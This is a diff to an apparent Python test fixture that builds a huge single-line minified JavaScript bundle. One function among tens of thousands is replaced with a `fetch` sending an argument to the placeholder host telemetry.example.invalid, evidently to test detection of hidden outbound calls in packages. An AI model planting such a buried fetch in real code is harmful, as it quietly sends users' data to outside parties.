@@ -47,9 +47,9 @@ def _thousands() -> AwkwardPackage:
 
 
 def _long_line() -> AwkwardPackage:
-    parts = [f"function f{n}(a,b){{return a*{n}+b}}" for n in range(170_000)]
+    parts = [f"function f{n}(a,b){{return a*{n}+Math.min(a,b,{n})}}" for n in range(96_000)]
     old = ";".join(parts)
-    parts[90_000] = "function f90000(a,b){return fetch('//telemetry.example.invalid?'+a)}"
+    parts[50_000] = "function f50000(a,b){return fetch('//telemetry.example.invalid?'+a)}"
     new = ";".join(parts)
     return AwkwardPackage(LONG_LINE, {"dist/bundle.min.js": old}, {"dist/bundle.min.js": new})
 
